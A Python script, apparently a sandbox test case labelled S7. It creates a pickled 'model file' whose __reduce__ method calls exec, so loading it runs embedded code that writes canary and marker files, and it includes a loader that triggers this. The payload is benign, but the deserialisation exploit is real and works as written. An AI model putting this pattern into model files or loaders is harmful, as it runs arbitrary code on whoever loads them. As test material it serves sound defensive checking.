"""S7: a model file that runs code when deserialised, and the loader a participant runtime would use.

`python pickle_payload.py make <model file> <canary path>` writes a pickle whose loading creates
<canary path> and drops a marker next to it in /output when that directory exists (proof it ran there).
`python pickle_payload.py load <model file>` unpickles the file, as any torch.load/pickle-based loader does.
"""

import os
import pickle
import sys

PAYLOAD = (
    "import os, pathlib\n"
    "canary = pathlib.Path({canary!r})\n"
    "try:\n"
    "    canary.parent.mkdir(parents=True, exist_ok=True)\n"
    "    canary.write_text('payload executed')\n"
    "    result = 'canary written'\n"
    "except OSError as exc:\n"
    "    result = 'canary refused: ' + exc.__class__.__name__\n"
    "if os.path.isdir('/output'):\n"
    "    pathlib.Path('/output/payload-ran.txt').write_text(result)\n"
)


class Payload:
    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (exec, (PAYLOAD.format(canary=self.canary),))


def main(argv: list[str]) -> None:
    if argv[0] == "make":
        with open(argv[1], "wb") as handle:
            pickle.dump({"weights": [0.0], "hook": Payload(argv[2])}, handle)
    elif argv[0] == "load":
        with open(argv[1], "rb") as handle:
            pickle.load(handle)
        print("loaded", os.getuid())


if __name__ == "__main__":
    main(sys.argv[1:])
